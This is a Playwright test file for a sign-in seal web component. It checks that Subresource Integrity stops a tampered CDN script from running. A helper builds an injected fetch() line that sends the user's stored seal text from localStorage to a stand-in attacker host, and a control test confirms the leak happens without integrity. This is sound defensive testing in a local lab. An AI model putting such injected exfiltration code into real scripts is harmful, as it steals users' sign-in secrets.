import { createHash } from 'node:crypto';
import type { Page } from '@playwright/test';
import { build } from 'esbuild';
import { openWithTextSeal, seal } from '../support/sign-in-page.js';
import { expect, test } from './support/attack.js';
import type { Lab } from './support/lab.js';

// The site loads the elements from a CDN, as one file. The attacker changes that file, so that it shows the
// seal as before and sends its text to the attacker.

async function bundle(): Promise<string> {
  const entryPoints = ['dist/src/define/signin-seal.js'];
  const external = ['./seal-editor.js'];
  const built = await build({ entryPoints, bundle: true, format: 'esm', write: false, external });
  return built.outputFiles[0]?.text ?? '';
}

const hashOf = (code: string): string =>
  `sha384-${createHash('sha384').update(code).digest('base64')}`;

const theft = (lab: Lab): string =>
  `fetch('${lab.at('phish.localhost')}?' + localStorage.getItem('signin-seal'), { mode: 'no-cors' });`;

const isStolen = (lab: Lab): boolean =>
  lab.requestsTo('phish.localhost').some(({ path }) => path.includes('whale'));

async function openWith(page: Page, lab: Lab, code: string, integrity: string): Promise<void> {
  const headers = { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' };
  const cdn = lab.file('cdn.localhost', '/signin-seal.js', code, headers);
  const script = `<script type="module" src="${cdn}" crossorigin ${integrity}></script>`;
  const sheet = '<link rel="stylesheet" href="/signin-seal.css" />';
  const body = '<signin-seal>The sign-in seal did not load.</signin-seal>';
  await openWithTextSeal(page, ['odd', 'whale']);
  await page.goto(lab.page('login.genuine.localhost', '/cdn', `${sheet}${script}${body}`));
}

test('with integrity, the true file shows the seal', async ({ page, lab }) => {
  const code = await bundle();
  await openWith(page, lab, code, `integrity="${hashOf(code)}"`);
  await expect(seal(page)).toBeVisible();
});

test('with integrity, the changed file does not run, and the page says so', async ({
  page,
  lab,
}) => {
  const code = await bundle();
  await openWith(page, lab, theft(lab) + code, `integrity="${hashOf(code)}"`);
  await expect(page.getByText('The sign-in seal did not load')).toBeVisible();
  expect(await page.evaluate(() => customElements.get('signin-seal') === undefined)).toBe(true);
  expect(isStolen(lab)).toBe(false);
});

test(
  'without integrity, the changed file shows the seal and sends it to the attacker',
  { tag: '@control' },
  async ({ page, lab }) => {
    await openWith(page, lab, theft(lab) + (await bundle()), '');
    await expect(seal(page)).toBeVisible();
    await expect.poll(() => isStolen(lab)).toBe(true);
  },
);
